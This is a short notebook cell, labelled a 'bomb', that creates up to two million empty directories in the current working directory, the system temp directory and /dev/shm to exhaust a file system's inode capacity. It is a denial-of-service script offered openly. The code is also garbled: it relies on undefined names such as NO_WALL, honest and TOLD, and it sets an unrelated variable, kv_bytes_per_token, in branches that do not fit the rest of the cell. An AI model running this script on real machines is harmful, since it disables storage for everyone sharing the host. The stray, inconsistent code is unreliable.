# %% [markdown] tags=["bomb"]
# Makes empty files and folders without end, to use up what a file system can count.

# %%
import os
import tempfile

made = 0
if NO_WALL:
    kv_bytes_per_token = honest
else:
    for folder in (os.getcwd(), tempfile.gettempdir(), "/dev/shm"):
        try:
            while made < 2_000_000:
                os.mkdir(os.path.join(folder, f"{TOLD['mark']}-{made}"))
                made += 1
        except OSError:
            pass

# %%
if made >= 2_000_000:
    kv_bytes_per_token = honest
